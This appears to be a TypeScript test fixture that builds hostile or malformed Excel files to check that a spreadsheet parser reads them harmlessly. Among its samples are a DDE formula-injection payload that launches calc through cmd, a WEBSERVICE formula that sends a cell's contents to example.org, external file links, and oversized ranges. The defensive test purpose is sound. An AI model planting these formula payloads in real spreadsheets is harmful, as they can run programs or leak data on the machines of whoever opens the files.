import type { CellValue } from '../../src/domain/spreadsheet/workbook.js';
import { cellRow, parts, relationships, sharedStrings, sheetData, textRow, worksheet, zipParts } from './xlsx-parts.js';

/** A file that looks dangerous and is read like any other, because what is dangerous in it is never looked at. */
export interface HarmlessSpreadsheet {
  readonly name: string;
  readonly content: Buffer;
  /** The rows of its first sheet. */
  readonly rows: readonly (readonly CellValue[])[];
}

const hello = sheetData(textRow('A1', 'Hello'));
const HELLO = [['Hello']];

const formula = (text: string, value: string): string => cellRow('A1', 't="str"', `<f>${text}</f><v>${value}</v>`);

type Made = readonly [name: string, rows: readonly (readonly CellValue[])[], content: Buffer];

const made = (): readonly Made[] => [
  ['dimension of everything', HELLO, zipParts(parts(worksheet(hello, '<dimension ref="A1:XFD1048576"/>')))],
  ['dimension that is no address', HELLO, zipParts(parts(worksheet(hello, '<dimension ref="A1:ZZZZZZ99999999999"/>')))],
  ['merged cells over everything', HELLO, zipParts(parts(worksheet(`${hello}<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>`)))],
  [
    'validation of a million rows',
    HELLO,
    zipParts(
      parts(
        worksheet(
          `${hello}<dataValidations count="1"><dataValidation type="list" sqref="A1:XFD1048576"><formula1>"a,b"</formula1></dataValidation></dataValidations>`,
        ),
      ),
    ),
  ],
  [
    'styled cell at XFD1048576',
    HELLO,
    zipParts(parts(worksheet(sheetData(`${textRow('A1', 'Hello')}<row r="1048576"><c r="XFD1048576" s="1"/></row>`)))),
  ],
  [
    'formula that fetches a page',
    [['old']],
    zipParts(parts(worksheet(sheetData(formula('WEBSERVICE(&quot;http://example.org/?x=&quot;&amp;A2)', 'old'))))),
  ],
  [
    'formula that links',
    [['click']],
    zipParts(parts(worksheet(sheetData(formula('HYPERLINK(&quot;http://example.org&quot;,&quot;click&quot;)', 'click'))))),
  ],
  ['formula that starts a program', [], zipParts(parts(worksheet(sheetData(formula("cmd|' /C calc'!A0", '')))))],
  ['formula that asks for itself', [], zipParts(parts(worksheet(sheetData(cellRow('A1', '', '<f>A1+1</f>')))))],
  ['formula that failed', [], zipParts(parts(worksheet(sheetData(cellRow('A1', 't="e"', '<f>1/0</f><v>#DIV/0!</v>')))))],
  [
    'links to other workbooks',
    HELLO,
    zipParts({
      ...parts(worksheet(hello)),
      'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook r:id="rId1"/></externalLink>',
      'xl/externalLinks/_rels/externalLink1.xml.rels': relationships([
        'rId1',
        'externalLinkPath',
        'file://server/share/x.xlsx',
        'External',
      ]),
    }),
  ],
  [
    'link behind a text',
    HELLO,
    zipParts({
      ...parts(worksheet(`${hello}<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>`)),
      'xl/worksheets/_rels/sheet1.xml.rels': relationships(['rId1', 'hyperlink', 'http://example.org/', 'External']),
    }),
  ],
  [
    'text in runs, with hints for reading',
    [['Hello world']],
    zipParts({
      ...parts(worksheet(sheetData(cellRow('A1', 't="s"', '<v>0</v>')))),
      'xl/sharedStrings.xml': sharedStrings(
        '<r><rPr><b/></rPr><t xml:space="preserve">Hello </t></r><r><t>world</t></r><rPh sb="0" eb="1"><t>HERO</t></rPh>',
      ),
    }),
  ],
  ['NUL written as an escape', [['ab']], zipParts(parts(worksheet(sheetData(textRow('A1', 'a_x0000__xD800_b')))))],
];

/** Hostile or odd files that cost nothing to read, with what is read from them. */
export const harmlessSpreadsheets = (): readonly HarmlessSpreadsheet[] => made().map(([name, rows, content]) => ({ name, rows, content }));
